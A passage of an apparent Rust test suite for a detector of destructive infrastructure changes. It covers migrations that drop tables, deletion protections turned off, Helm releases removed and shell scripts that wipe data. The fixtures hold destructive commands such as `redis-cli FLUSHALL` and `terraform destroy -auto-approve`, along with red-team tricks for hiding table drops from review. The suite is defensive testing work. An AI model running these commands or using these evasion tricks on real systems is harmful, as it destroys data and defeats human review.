            ("-- +goose Up", "-- +goose Down")
        } else if fake.contains("+migrate") {
            ("-- +migrate Up", "-- +migrate Down")
        } else {
            ("-- migrate:up", "-- migrate:down")
        };
        let text = format!("{up}\nCREATE TABLE t2 (id int);\n{fake}\n{drop}\n{down}\nDROP TABLE t2;\n");
        assert_eq!(
            destructive_migrations(&patch("db/migrations/3_x.sql", &text), |_| true),
            ["db/migrations/3_x.sql"],
            "{fake}"
        );
        let honest = format!("{up}\nCREATE TABLE t2 (id int);\n{down}\n{drop}\n");
        assert!(destructive_migrations(&patch("db/migrations/3_x.sql", &honest), |_| true).is_empty(), "{fake}");
    }
    // A down function's header in a string or heredoc inside the up
    // function is text, not the down function.
    let docstring = "def upgrade() -> None:\n    op.create_table('t2')\n    note = \"\"\"\ndef downgrade():\n\"\"\"\n    op.drop_table('users')\n\n\ndef downgrade() -> None:\n    op.drop_table('t2')\n";
    assert_eq!(
        destructive_migrations(&patch("alembic/versions/6_x.py", docstring), |_| true),
        ["alembic/versions/6_x.py"]
    );
    let template = "exports.up = async function(knex) {\n  const note = `\nexports.down = async function(knex) {\n`;\n  await knex.schema.dropTable('users');\n};\nexports.down = async function(knex) {\n  await knex.schema.dropTable('t2');\n};\n";
    assert_eq!(destructive_migrations(&patch("migrations/7_x.js", template), |_| true), ["migrations/7_x.js"]);
    let heredoc = "class X < ActiveRecord::Migration[7.1]\n  def up\n    say <<~NOTE\n  def down\n    NOTE\n    drop_table :users\n  end\n\n  def down\n    drop_table :t2\n  end\nend\n";
    assert_eq!(destructive_migrations(&patch("db/migrate/8_x.rb", heredoc), |_| true), ["db/migrate/8_x.rb"]);
    // Strings that open and close (a generated module docstring, a
    // template on one line) leave the down function a down function.
    let generated = "\"\"\"add note\n\nRevision ID: 3f2a\n\"\"\"\nfrom alembic import op\n\n\ndef upgrade() -> None:\n    op.execute(`SELECT 1`)\n\n\ndef downgrade() -> None:\n    op.drop_column('orders', 'note')\n";
    assert!(destructive_migrations(&patch("alembic/versions/9_x.py", generated), |_| true).is_empty());
    // A down function nested in the up function does not end it.
    let nested = "def upgrade() -> None:\n    op.create_table('t2')\n    def downgrade():\n        pass\n    op.drop_table('users')\n\n\ndef downgrade() -> None:\n    op.drop_table('t2')\n";
    assert_eq!(
        destructive_migrations(&patch("alembic/versions/5_x.py", nested), |_| true),
        ["alembic/versions/5_x.py"]
    );
}

/// A down function ends with its body: code after it runs going up when
/// the up function calls it (a red team: `upgrade()` calling `_purge()`,
/// defined after `downgrade()`, hid its `drop_table`, in Alembic, Rails,
/// Knex, Sequelize, TypeORM and Laravel alike), and is read. What the down
/// function itself drops is still not read, in each tool's usual layout:
/// PHP's brace on its own line, a multi-line string at the margin, a
/// comment at the margin, a one-line Ruby method.
#[test]
fn code_after_a_down_function_is_read() {
    use blastgate_ingest::git::migration_destroys;
    let reversible: &[(&str, &str)] = &[
        (
            "database/migrations/2026_x.php",
            "<?php\nreturn new class extends Migration\n{\n    public function up(): void\n    {\n        Schema::create('x', function (Blueprint $table) {\n            $table->id();\n        });\n    }\n\n    public function down(): void\n    {\n        Schema::dropIfExists('x');\n    }\n};\n",
        ),
        (
            "alembic/versions/1_x.py",
            "def upgrade():\n    op.create_table('x', sa.Column('id', sa.Integer))\n\n\ndef downgrade():\n    op.execute(\"\"\"\nDROP TABLE x\n\"\"\")\n# the end\n    op.drop_table('y')\n",
        ),
        (
            "db/migrate/1_x.rb",
            "class CreateX < ActiveRecord::Migration[7.0]\n  def up\n    create_table :x\n  end\n\n  def down\n    drop_table :x\n  end\nend\n",
        ),
        (
            "db/migrate/2_x.rb",
            "class X < ActiveRecord::Migration[7.0]\n  def up\n    create_table :x\n  end\n  def down; drop_table :x; end\nend\n",
        ),
        (
            "migrations/1_x.js",
            "exports.up = function(knex) {\n  return knex.schema.createTable('x', t => { t.increments(); });\n};\n\nexports.down = function(knex) {\n  return knex.schema.dropTable('x');\n};\n",
        ),
        (
            "migrations/2_x.js",
            "module.exports = {\n  up: async (queryInterface, Sequelize) => {\n    await queryInterface.createTable('x', {});\n  },\n  down: async (queryInterface) => {\n    await queryInterface.dropTable('x');\n  }\n};\n",
        ),
        (
            "src/migrations/1_x.ts",
            "export class X implements MigrationInterface {\n    public async up(queryRunner: QueryRunner): Promise<void> {\n        await queryRunner.query(`CREATE TABLE x (id int)`);\n    }\n\n    public async down(queryRunner: QueryRunner): Promise<void> {\n        await queryRunner.query(`DROP TABLE x`);\n    }\n}\n",
        ),
    ];
    for (path, text) in reversible {
        assert!(!migration_destroys(path, text.as_bytes()), "{path}");
    }
    let helpers: &[(&str, &str)] = &[
        (
            "alembic/versions/2_x.py",
            "def upgrade():\n    _purge()\n\n\ndef downgrade():\n    pass\n\n\ndef _purge():\n    op.drop_table('orders_archive')\n",
        ),
        (
            "db/migrate/3_x.rb",
            "class X < ActiveRecord::Migration[7.0]\n  def up\n    purge\n  end\n\n  def down\n  end\n\n  private\n\n  def purge\n    drop_table :orders_archive\n  end\nend\n",
        ),
        (
            "migrations/3_x.js",
            "exports.up = function(knex) {\n  return purge(knex);\n};\n\nexports.down = function(knex) {\n  return Promise.resolve();\n};\n\nfunction purge(knex) {\n  return knex.schema.dropTable('orders_archive');\n}\n",
        ),
        (
            "database/migrations/2026_y.php",
            "<?php\nreturn new class extends Migration\n{\n    public function up(): void\n    {\n        $this->purge();\n    }\n\n    public function down(): void\n    {\n    }\n\n    private function purge(): void\n    {\n        Schema::dropIfExists('orders_archive');\n    }\n};\n",
        ),
    ];
    for (path, text) in helpers {
        assert!(migration_destroys(path, text.as_bytes()), "{path}");
    }
}

/// Manifests by their content (`is_manifest`), wherever they are kept.
#[test]
fn manifests_are_known_by_what_they_say() {
    use blastgate_ingest::git::is_manifest;
    let manifests: &[&[u8]] = &[
        b"# the ledger\napiVersion: v1\nkind: PersistentVolumeClaim\n",
        b"---\nkind: Application\napiVersion: argoproj.io/v1alpha1\n",
        b"{\"apiVersion\": \"v1\", \"kind\": \"Secret\"}",
        b"[{\"apiVersion\": \"v1\", \"kind\": \"Service\"}]",
        b"AWSTemplateFormatVersion: '2010-09-09'\nResources: {}\n",
        b"Resources:\n  Db:\n    Type: 'AWS::RDS::DBInstance'\n",
        b"{\"Resources\": {\"Q\": {\"Type\": \"AWS::SQS::Queue\"}}}",
    ];
    for text in manifests {
        assert!(is_manifest(text), "{}", String::from_utf8_lossy(text));
    }
    let others: &[&[u8]] = &[
        b"replicas: 3\nkind: fast\n",
        b"spec:\n  apiVersion: v1\n  kind: Pod\n",
        b"# apiVersion: v1\nkind: x\n",
        b"{\"kind\": \"fast\"}",
        b"Resources:\n  limit: 3\n",
        b"apiVersion: v1\nkind: Secret\n\0",
        b"",
    ];
    for text in others {
        assert!(!is_manifest(text), "{}", String::from_utf8_lossy(text));
    }
}

/// A resource block with no instance (`count = 0`, an empty `for_each`)
/// declares nothing: Terraform destroys its instances, as if the block
/// were deleted. A `moved` block on one line keeps its resource.
#[test]
fn a_block_of_no_instance_declares_nothing() {
    use blastgate_ingest::git::declared_counts;
    let db = |extra: &str| format!("resource \"aws_db_instance\" \"orders\" {{\n  engine = \"postgres\"\n{extra}}}\n");
    assert_eq!(declared_counts(db("").as_bytes()).get("aws_db_instance"), Some(&1));
    for none in ["  count = 0\n", "  count=0\n", "  for_each = {}\n", "  for_each = toset([])\n"] {
        assert_eq!(declared_counts(db(none).as_bytes()).get("aws_db_instance"), None, "{none}");
    }
    assert_eq!(declared_counts(db("  count = 2\n").as_bytes()).get("aws_db_instance"), Some(&1));
    // Red team 13: constant expressions Terraform computes to nothing
    // count as none (fail closed); values that read variables, literal
    // collections with items, a `dynamic` block's `for_each` and a value
    // over several lines do not.
    for none in [
        "  count = 1 - 1\n",
        "  count = (0)\n",
        "  count = \"0\"\n",
        "  count = 0.0\n",
        "  count = false ? 1 : 0\n",
        "  count = length([])\n",
        "  count = min(0, 1)\n",
        "  for_each = tomap({})\n",
        "  for_each = length([\"a\"]) > 5 ? [\"a\"] : []\n",
    ] {
        assert_eq!(declared_counts(db(none).as_bytes()).get("aws_db_instance"), None, "{none}");
    }
    for some in [
        "  count = var.enabled ? 1 : 0\n",
        "  count = \"1\"\n",
        "  count = length(var.subnets)\n",
        "  for_each = var.queues\n",
        "  for_each = toset([\"a\", \"b\"])\n",
        "  for_each = { a = 1 }\n",
        "  for_each = {\n    a = 1\n  }\n",
        "  count = (\n    var.enabled ? 1 : 0\n  )\n",
        "  dynamic \"ingress\" {\n    for_each = []\n    content {}\n  }\n",
    ] {
        assert_eq!(declared_counts(db(some).as_bytes()).get("aws_db_instance"), Some(&1), "{some}");
    }
    // A resource written inside a heredoc is a string's text.
    let wrapped = "locals {\n  old = <<EOT\nresource \"aws_db_instance\" \"orders\" {\n}\nEOT\n}\nresource \"aws_sqs_queue\" \"q\" {}\n";
    let counts = declared_counts(wrapped.as_bytes());
    assert_eq!((counts.get("aws_db_instance"), counts.get("aws_sqs_queue")), (None, Some(&1)));
    let nested = "resource \"aws_db_instance\" \"a\" {\n  lifecycle {\n    prevent_destroy = true\n  }\n  count = 0\n}\nresource \"aws_sqs_queue\" \"q\" {}\n";
    let counts = declared_counts(nested.as_bytes());
    assert_eq!((counts.get("aws_db_instance"), counts.get("aws_sqs_queue")), (None, Some(&1)));
    let moved = "moved { from = aws_db_instance.a  to = module.db.aws_db_instance.a }\n";
    assert_eq!(declared_counts(moved.as_bytes()).get("aws_db_instance"), Some(&1));
}

/// Guards against deletion turned off (`removed_guards`): a guard's line
/// removed more often than added, or a line turning one off added; a
/// guard that only moves, or a file that is no infrastructure, is not.
#[test]
fn guards_turned_off_are_found() {
    use blastgate_ingest::git::removed_guards;
    let patch = |path: &str, body: &str| {
        format!("diff --git a/{path} b/{path}\n--- a/{path}\n+++ b/{path}\n@@ -1,3 +1,3 @@\n{body}").into_bytes()
    };
    let cases: &[(&str, &[&str])] = &[
        ("-  deletion_protection = true\n+  deletion_protection = false\n", &["deletion_protection"]),
        ("-    prevent_destroy = true\n", &["prevent_destroy"]),
        ("+  skip_final_snapshot = true # fast teardown\n", &["skip_final_snapshot"]),
        ("-    DeletionPolicy: Retain\n+    DeletionPolicy: Delete\n", &["DeletionPolicy"]),
        ("+  \"DeletionProtection\": false,\n", &["DeletionProtection"]),
        ("-  persistentVolumeReclaimPolicy: Retain\n", &["persistentVolumeReclaimPolicy"]),
        ("-    helm.sh/resource-policy: keep\n", &["helm.sh/resource-policy"]),
        ("+  force_destroy = true\n+  deletion_protection = false\n", &["deletion_protection", "force_destroy"]),
        // Crossplane, Config Connector, ACK, Flux and Argo CD keep the
        // cloud resource when their object goes; Pulumi's `protect`.
        ("-  deletionPolicy: Orphan\n+  deletionPolicy: Delete\n", &["DeletionPolicy"]),
        ("-    cnrm.cloud.google.com/deletion-policy: abandon\n", &["cnrm.cloud.google.com/deletion-policy"]),
        ("-    services.k8s.aws/deletion-policy: retain\n", &["services.k8s.aws/deletion-policy"]),
        ("-    kustomize.toolkit.fluxcd.io/prune: disabled\n", &["Flux prune: disabled"]),
        ("-    argocd.argoproj.io/sync-options: Delete=false\n", &["Argo CD Delete=false"]),
        ("-      protect: true\n", &["protect"]),
        ("-      retainOnDelete: true\n", &["retainOnDelete"]),
        // ... in Python, C# and Go too (red team 29).
        (
            "-    opts=pulumi.ResourceOptions(protect=True, retain_on_delete=True))\n+    opts=pulumi.ResourceOptions(protect=False))\n",
            &["protect", "retainOnDelete"],
        ),
        (
            "-    new CustomResourceOptions { Protect = true, RetainOnDelete = true });\n",
            &["protect", "retainOnDelete"],
        ),
        ("-\t}, pulumi.Protect(true), pulumi.RetainOnDelete(true))\n+\t})\n", &["protect", "retainOnDelete"]),
        ("+\t}, pulumi.Protect(false))\n", &["protect"]),
        ("-\t})\n+\t}, pulumi.Protect(true))\n", &[]),
        // Terraform's AWS, Google and Azure providers.
        ("-  disable_api_termination = true\n", &["disable_api_termination"]),
        ("+  enable_deletion_protection = false\n", &["enable_deletion_protection"]),
        ("-  enable_drop_protection = true\n", &["enable_drop_protection"]),
        (
            "-  deletion_protection = \"PROTECTED\"\n+  deletion_protection = \"UNPROTECTED\"\n",
            &["deletion_protection"],
        ),
        ("+    prevent_deletion_if_contains_resources = false\n", &["prevent_deletion_if_contains_resources"]),
        ("-  backup_retention_period = 7\n+  backup_retention_period = 0\n", &["backup_retention_period"]),
        ("-    deletion_protection: true\n+    deletion_protection: false\n", &["deletion_protection"]),
        ("+      BackupRetentionPeriod: 0\n", &["BackupRetentionPeriod"]),
        ("+  backup_retention_period = 14\n", &[]),
        // Several settings on one line, and a StatefulSet's claims.
        ("-  lifecycle { prevent_destroy = true }\n", &["prevent_destroy"]),
        (
            "-db = aws.rds.Instance(\"orders\", engine=\"postgres\", deletion_protection=True)\n+db = aws.rds.Instance(\"orders\", engine=\"postgres\", deletion_protection=False)\n",
            &["deletion_protection"],
        ),
        ("-  persistentVolumeClaimRetentionPolicy: {whenDeleted: Retain}\n", &["whenDeleted"]),
        ("+    whenDeleted: Delete\n", &["whenDeleted"]),
        ("-    whenScaled: Retain\n+    whenScaled: Delete\n", &["whenScaled"]),
        // The AWS CDK, in TypeScript and Python.
        (
            "-  removalPolicy: cdk.RemovalPolicy.RETAIN,\n+  removalPolicy: cdk.RemovalPolicy.DESTROY,\n",
            &["removalPolicy"],
        ),
        ("+    removal_policy=RemovalPolicy.DESTROY,\n", &["removalPolicy"]),
        ("+bucket.applyRemovalPolicy(RemovalPolicy.DESTROY);\n", &["removalPolicy"]),
        ("+  autoDeleteObjects: true,\n", &["autoDeleteObjects"]),
        ("-  terminationProtection: true,\n", &["terminationProtection"]),
        ("-  removalPolicy: RemovalPolicy.SNAPSHOT,\n+  removalPolicy: RemovalPolicy.RETAIN,\n", &[]),
        ("+  removalPolicy: RemovalPolicy.RETAIN,\n", &[]),
        ("+  deletionPolicy: Orphan\n", &[]),
        // Moved, reformatted, or turned on: nothing off.
        ("-    prevent_destroy = true\n+    prevent_destroy   =   true\n", &[]),
        ("-  deletion_protection = false\n+  deletion_protection = true\n", &[]),
        ("+  skip_final_snapshot = false\n", &[]),
        ("+  # deletion_protection = false\n", &[]),
    ];
    for (body, want) in cases {
        let found = removed_guards(&patch("db/main.tf", body), |_| true);
        let got: Vec<&str> =
            found.get("db/main.tf").map(|g| g.iter().map(String::as_str).collect()).unwrap_or_default();
        assert_eq!(got, *want, "{body}");
    }
    let found = removed_guards(&patch("docs/guide.md", "-    prevent_destroy = true\n"), |p| p.ends_with(".tf"));
    assert!(found.is_empty());
    // A template written on one line (minified JSON), however long.
    let minified = format!(
        "+{{\"Resources\": {{{}\"Db\": {{\"Properties\": {{\"DeletionProtection\": false}}}}}}}}\n",
        "\"Pad\": {\"Type\": \"AWS::SNS::Topic\"}, ".repeat(200)
    );
    let found = removed_guards(&patch("cfn/stack.json", &minified), |_| true);
    assert_eq!(found.get("cfn/stack.json").map(Vec::as_slice), Some(&["DeletionProtection".to_owned()][..]));

    // A variables file's guard variable turned off (red team 11), in HCL
    // and JSON; turned on, or another variable, nothing.
    let tfvars: &[(&str, &str, &[&str])] = &[
        (
            "envs/prod.tfvars",
            "-reports_db_deletion_protection = true\n+reports_db_deletion_protection = false\n",
            &["reports_db_deletion_protection=false"],
        ),
        ("envs/prod.tfvars", "+skip_final_snapshot = true\n", &["skip_final_snapshot=true"]),
        ("envs/prod.tfvars.json", "+  \"db_deletion_protection\": false,\n", &["db_deletion_protection=false"]),
        ("envs/prod.tfvars", "-db_deletion_protection = false\n+db_deletion_protection = true\n", &[]),
        ("envs/prod.tfvars", "+instance_class = \"db.r6g.large\"\n", &[]),
    ];
    for (path, body, want) in tfvars {
        let found = removed_guards(&patch(path, body), |_| true);
        let got: Vec<&str> = found.get(*path).map(|g| g.iter().map(String::as_str).collect()).unwrap_or_default();
        assert_eq!(got, *want, "{body}");
    }
}

/// An operator's, Crossplane's or a cloud controller's object is read
/// with its API group when the kind alone reads as mere infrastructure
/// and the group says it holds data (red team 11); built-in groups and
/// other kinds stay as they are.
#[test]
fn custom_resources_are_read_with_their_group() {
    use blastgate_ingest::git::declared_counts;
    let cases: &[(&str, &[&str])] = &[
        (
            "apiVersion: postgresql.cnpg.io/v1\nkind: Cluster\nmetadata:\n  name: reports-db\n",
            &["Cluster.postgresql.cnpg.io"],
        ),
        (
            "kind: Instance\napiVersion: rds.aws.upbound.io/v1beta1\n---\napiVersion: apps/v1\nkind: Deployment\n",
            &["Deployment", "Instance.rds.aws.upbound.io"],
        ),
        ("apiVersion: dynamodb.services.k8s.aws/v1alpha1\nkind: Table\n", &["Table.dynamodb.services.k8s.aws"]),
        ("{\"apiVersion\": \"postgresql.cnpg.io/v1\", \"kind\": \"Cluster\"}", &["Cluster.postgresql.cnpg.io"]),
        ("apiVersion: argoproj.io/v1alpha1\nkind: Application\n", &["Application"]),
        ("apiVersion: networking.k8s.io/v1\nkind: Ingress\n", &["Ingress"]),
        ("apiVersion: apiextensions.k8s.io/v1\nkind: CustomResourceDefinition\n", &["CustomResourceDefinition"]),
    ];
    for (text, want) in cases {
        let got: Vec<String> = declared_counts(text.as_bytes()).into_keys().collect();
        assert_eq!(got, *want, "{text}");
    }
}

/// Regressions (a red-team audit of the declarations reader): references
/// are not declarations, a `/*` in a value blanks nothing, a brace in a
/// string hides nothing, JSON is counted once, `module` blocks count.
#[test]
fn declarations_are_read_as_the_tools_read_them() {
    use blastgate_ingest::git::declared_counts;
    let count = |text: &str| declared_counts(text.as_bytes());
    let rbac = "apiVersion: rbac.authorization.k8s.io/v1\nkind: RoleBinding\nsubjects:\n  - kind: ServiceAccount\n    name: batch\nroleRef:\n  kind: Role\n  name: reader\n";
    assert_eq!(count(rbac).keys().collect::<Vec<_>>(), ["RoleBinding"]);
    let arn = "resource \"aws_iam_policy\" \"p\" {\n  policy = \"arn:aws:s3:::logs/*\"\n}\nresource \"aws_db_instance\" \"db\" {\n  engine = \"postgres\"\n}\n";
    assert_eq!(count(arn).get("aws_db_instance"), Some(&1));
    let ingress = "apiVersion: networking.k8s.io/v1\nkind: Ingress\nspec:\n  rules:\n    - http: {paths: [{path: /*}]}\n---\napiVersion: v1\nkind: PersistentVolumeClaim\n";
    assert_eq!(count(ingress).get("PersistentVolumeClaim"), Some(&1));
    let brace = "resource \"aws_ssm_parameter\" \"p\" {\n  value = \"{ unbalanced\"\n}\nresource \"aws_db_instance\" \"db\" {\n}\n";
    assert_eq!(count(brace).get("aws_db_instance"), Some(&1));
    let unclosed =
        "moved {\n  from = aws_s3_bucket.a\n  to = aws_s3_bucket.b\nresource \"aws_db_instance\" \"db\" {\n}\n";
    assert_eq!(count(unclosed).get("aws_db_instance"), Some(&1));
    let cfn = "{\n  \"Resources\": {\n    \"Db\": {\n      \"Type\": \"AWS::RDS::DBInstance\"\n    }\n  }\n}\n";
    assert_eq!(count(cfn).get("AWS::RDS::DBInstance"), Some(&1));
    let k8s_json = "\u{feff}{\"apiVersion\": \"v1\", \"kind\": \"List\", \"items\": [{\"apiVersion\": \"v1\", \"kind\": \"PersistentVolumeClaim\"}]}";
    assert_eq!(count(k8s_json).keys().collect::<Vec<_>>(), ["PersistentVolumeClaim"]);
    // A module block is its source (red team 11: the RDS module taken
    // out read as `module`, mere infrastructure), less its query.
    assert_eq!(count("module \"db\" {\n  source = \"./modules/db\"\n}\n").get("module ./modules/db"), Some(&1));
    let registry = "module \"orders_db\" {\n  version = \"6.1.0\"\n  providers = {\n    source = \"x\"\n  }\n  source  = \"terraform-aws-modules/rds/aws\"\n}\n";
    assert_eq!(count(registry).keys().collect::<Vec<_>>(), ["module terraform-aws-modules/rds/aws"]);
    let pinned = "module \"q\" { source = \"git::https://example.com/infra.git//sqs?ref=v1.2.0\" }\n";
    assert_eq!(count(pinned).keys().collect::<Vec<_>>(), ["module git::https://example.com/infra.git//sqs"]);
    assert_eq!(count("module \"x\" {\n}\n").keys().collect::<Vec<_>>(), ["module"]);
    // One with no instance destroys what it made, as a resource does.
    let none = "module \"db\" {\n  count  = 0\n  source = \"./db\"\n}\n";
    assert!(count(none).is_empty(), "{:?}", count(none));
    assert_eq!(count("resource\"aws_db_instance\"\"x\"{\n}\n").get("aws_db_instance"), Some(&1));
    // Other spellings of a document's kind.
    let flow = "{apiVersion: v1, kind: PersistentVolumeClaim, metadata: {name: ledger, labels: {kind: x}}}\n";
    assert_eq!(count(flow).keys().collect::<Vec<_>>(), ["PersistentVolumeClaim"]);
    let quoted = "\"apiVersion\": v1\n\"kind\": \"Secret\"\n";
    assert_eq!(count(quoted).keys().collect::<Vec<_>>(), ["Secret"]);
    let old_mac = "apiVersion: v1\rkind: Secret\r---\rkind: Service\r";
    assert_eq!(count(old_mac).keys().collect::<Vec<_>>(), ["Secret", "Service"]);
    // A YAML `List`'s items are its objects (a red team: a StatefulSet in
    // one was unread).
    let list = "apiVersion: v1\nkind: List\nitems:\n  - apiVersion: apps/v1\n    kind: StatefulSet\n    metadata: {name: db}\n  - {apiVersion: v1, kind: PersistentVolumeClaim}\n";
    assert_eq!(count(list).keys().collect::<Vec<_>>(), ["PersistentVolumeClaim", "StatefulSet"]);
}

/// Kustomization entries as kustomize reads them (a red team): repeated
/// slashes are local, host names and queries remote; a GitOps path is
/// from the repository's top however it is written.
#[test]
fn deploy_list_entries_are_read_as_the_tools_read_them() {
    use blastgate_ingest::git::{gitops_target, kustomize_target};
    assert_eq!(kustomize_target("orders", "state//").as_deref(), Some("orders/state"));
    assert_eq!(kustomize_target("orders", ".//db").as_deref(), Some("orders/db"));
    assert_eq!(kustomize_target("orders", "conf.d/db").as_deref(), Some("orders/conf.d/db"));
    assert_eq!(kustomize_target("orders", "v1.2/db").as_deref(), Some("orders/v1.2/db"));
    assert_eq!(kustomize_target("orders", "claim").as_deref(), Some("orders/claim"));
    assert_eq!(kustomize_target("orders", "github.com/acme/db"), None);
    assert_eq!(kustomize_target("orders", "git.example.org/db//base"), None);
    assert_eq!(kustomize_target("orders", "../db?ref=v1"), None);
    assert_eq!(gitops_target("/orders//state/").as_deref(), Some("orders/state"));
    assert_eq!(gitops_target("").as_deref(), Some(""));
    assert_eq!(gitops_target("../x"), None);
}

/// An application's repository and cluster as Argo CD compares them (a
/// red team: `.git` dropped from the URL, or the in-cluster server named
/// `in-cluster`, read as another place, and the objects as deleted).
#[test]
fn gitops_identities_compare_as_argo_cd_does() {
    use blastgate_ingest::git::gitops_sources;
    let app = |repo: &str, destination: &str| {
        let text = format!(
            "apiVersion: argoproj.io/v1alpha1\nkind: Application\nspec:\n  source:\n    repoURL: {repo}\n    path: apps/ledger\n  destination: {{{destination}, namespace: ledger}}\n"
        );
        gitops_sources(text.as_bytes()).unwrap().remove(0).identity
    };
    let prod = app("https://github.com/acme/deploy.git", "server: https://kubernetes.default.svc");
    assert_eq!(prod, app("https://github.com/Acme/deploy/", "name: in-cluster"));
    assert_eq!(prod, app("git@github.com:acme/deploy.git", "server: https://kubernetes.default.svc/"));
    assert_ne!(prod, app("https://github.com/acme/deploy-fork", "name: in-cluster"));
    assert_ne!(prod, app("https://github.com/acme/deploy", "server: https://sandbox.example"));
}

/// A Helm switch taken out of a values file: off in an override file
/// (the chart's default is not known), kept for a subchart in the chart's
/// own defaults (its `condition`, which Helm ignores when absent), off
/// for a template's own switch in either (a red team).
#[test]
fn helm_switches_taken_out_read_by_where_they_were() {
    use blastgate_ingest::git::helm_turned_off;
    let before = b"postgresql:\n  enabled: true\npersistence:\n  enabled: true\n";
    let after = b"postgresql: {}\npersistence: {size: 8Gi}\n";
    assert_eq!(helm_turned_off(before, after, false), ["persistence", "postgresql"]);
    assert_eq!(helm_turned_off(before, after, true), ["persistence"]);
}

/// A kustomize patch that deletes its target object (`$patch: delete` at a
/// document's top level) is read as that deletion, in YAML, in JSON, in a
/// `List`, and line by line when the text is not YAML; a `$patch: delete`
/// inside a list (a container) deletes no object; such a document
/// declares nothing, and makes its file a manifest.
#[test]
fn patches_that_delete_their_target_are_deletions_not_declarations() {
    use blastgate_ingest::git::{declared_counts, declared_objects, is_manifest, patch_deleted_kinds};
    let set = "apiVersion: apps/v1\nkind: StatefulSet\nmetadata:\n  name: db\n$patch: delete\n";
    let claim = "kind: PersistentVolumeClaim\nmetadata: {name: data}\n\"$patch\": 'delete'\n";
    let sidecar = "apiVersion: apps/v1\nkind: Deployment\nmetadata: {name: web}\nspec:\n  template:\n    spec:\n      containers:\n        - name: proxy\n          $patch: delete\n";
    let text = format!("{set}---\n{claim}---\n{sidecar}");
    assert_eq!(patch_deleted_kinds(text.as_bytes()), ["StatefulSet", "PersistentVolumeClaim"]);
    let counts = declared_counts(text.as_bytes());
    assert_eq!(counts.into_iter().collect::<Vec<_>>(), [("Deployment".to_owned(), 1)]);
    assert_eq!(declared_objects(text.as_bytes()).unwrap(), [("Deployment".to_owned(), "web".to_owned())]);
    // Without a kind (the Kustomization's target names it), in JSON, in a
    // List, and in a text that is not YAML (a tab before a key).
    assert_eq!(patch_deleted_kinds(b"metadata: {name: db}\n$patch: delete\n"), ["object"]);
    let json = br#"{"apiVersion": "v1", "kind": "Service", "metadata": {"name": "web"}, "$patch": "delete"}"#;
    assert_eq!(patch_deleted_kinds(json), ["Service"]);
    assert!(declared_counts(json).is_empty());
    let list = b"apiVersion: v1\nkind: List\nitems:\n  - kind: Secret\n    metadata: {name: s}\n    $patch: delete\n";
    assert_eq!(patch_deleted_kinds(list), ["Secret"]);
    let broken = b"kind: StatefulSet\nmetadata:\n\tname: db\n$patch: delete\n---\nkind: Service\n";
    assert_eq!(patch_deleted_kinds(broken), ["StatefulSet"]);
    assert!(is_manifest(b"kind: StatefulSet\nmetadata: {name: db}\n$patch: delete\n"));
    assert!(!is_manifest(sidecar.replace("apiVersion: apps/v1\n", "").as_bytes()));
    // Nothing else deletes: a plain manifest, a nested directive, a
    // `$patch: replace`, a text too large or with a NUL byte.
    assert!(patch_deleted_kinds(sidecar.as_bytes()).is_empty());
    assert!(patch_deleted_kinds(b"kind: Service\n$patch: replace\n").is_empty());
    assert!(patch_deleted_kinds(b"kind: Service\n$patch: delete\n\0").is_empty());
    // A kind of control characters alone is `object`; a long one is cut.
    assert_eq!(patch_deleted_kinds(b"kind: \"\\x01\"\n$patch: delete\n"), ["object"]);
    let long = format!("kind: {}\n$patch: delete\n", "K".repeat(1000));
    assert_eq!(patch_deleted_kinds(long.as_bytes())[0].len(), blastgate_ingest::git::MAX_TYPE_BYTES);
}

/// Helmfile releases switched off, read over several documents, with
/// `installed` written as a string; a side that is templated (not YAML)
/// compares nothing, and a release switched on again uninstalls nothing.
#[test]
fn helmfile_releases_switched_off_are_read_as_helmfile_reads_them() {
    use blastgate_ingest::git::helmfile_uninstalled;
    let before = b"environments:\n  prod: {}\n---\nreleases:\n  - name: cache\n    chart: bitnami/redis\n  - name: queue\n    chart: bitnami/rabbitmq\n    installed: false\n";
    let after = b"environments:\n  prod: {}\n---\nreleases:\n  - name: cache\n    chart: bitnami/redis\n    installed: \"false\"\n  - name: queue\n    chart: bitnami/rabbitmq\n    installed: true\n";
    assert_eq!(helmfile_uninstalled(before, after).unwrap(), ["helm chart bitnami/redis cache"]);
    assert_eq!(helmfile_uninstalled(after, before).unwrap(), ["helm chart bitnami/rabbitmq queue"]);
    // A template is read a line at a time: a value it renders is not
    // known, so it is no `true`.
    let templated = b"releases:\n  - name: cache\n    chart: bitnami/redis\n    installed: {{ .Values.cache }}\n";
    assert_eq!(helmfile_uninstalled(templated, after).unwrap(), Vec::<String>::new());
    assert_eq!(helmfile_uninstalled(before, templated).unwrap(), ["helm chart bitnami/redis cache"]);
    let version = |off: &str| {
        format!(
            "repositories:\n  - name: bitnami\n    url: {{{{ requiredEnv \"CHARTS\" }}}}\nreleases:\n  - name: orders-db # the ledger\n    namespace: orders\n    chart: bitnami/postgresql\n    version: {{{{ .Values.pg }}}}\n{off}    values:\n      - primary:\n          name: x\n  - name: web\n    chart: ./web\n"
        )
    };
    let (on, off) = (version(""), version("    installed: false\n"));
    assert_eq!(
        helmfile_uninstalled(on.as_bytes(), off.as_bytes()).unwrap(),
        ["helm chart bitnami/postgresql orders-db"]
    );
    assert_eq!(helmfile_uninstalled(off.as_bytes(), on.as_bytes()).unwrap(), Vec::<String>::new());
    // Releases are the same by name and namespace: staging's, already
    // off, does not stand for prod's.
    let two = |extra: &str| {
        format!(
            "releases:\n  - name: db\n    namespace: staging\n    chart: bitnami/postgresql\n    installed: false\n  - name: db\n    namespace: prod\n    chart: bitnami/postgresql\n{extra}"
        )
    };
    let bumped = two("    version: 15.5.1\n");
    assert_eq!(helmfile_uninstalled(two("").as_bytes(), bumped.as_bytes()).unwrap(), Vec::<String>::new());
    assert_eq!(helmfile_uninstalled(b"\0", after), None);
}

/// What `destructive_commands` finds in a script `ops/x.sh` whose added
/// lines are `lines`, read in order.
fn script_destroys(lines: &[&str]) -> Vec<String> {
    let added: String = lines.iter().map(|l| format!("+{l}\n")).collect();
    let patch = format!(
        "diff --git a/ops/x.sh b/ops/x.sh\n--- a/ops/x.sh\n+++ b/ops/x.sh\n@@ -0,0 +1,{} @@\n{added}",
        lines.len()
    );
    blastgate_ingest::git::destructive_commands(patch.as_bytes(), |_| true).remove("ops/x.sh").unwrap_or_default()
}

/// Red team 13: a shell function defined in a script runs its body where
/// it is called, with the call's arguments.
#[test]
fn shell_functions_run_their_bodies() {
    let script = script_destroys;
    assert_eq!(script(&["f() { redis-cli -h cart-cache.prod \"$@\"; }", "f FLUSHALL"]), ["redis flushall"]);
    assert_eq!(
        script(&["function teardown {", "  terraform -chdir=infra destroy -auto-approve", "}", "teardown"]),
        ["terraform destroy"]
    );
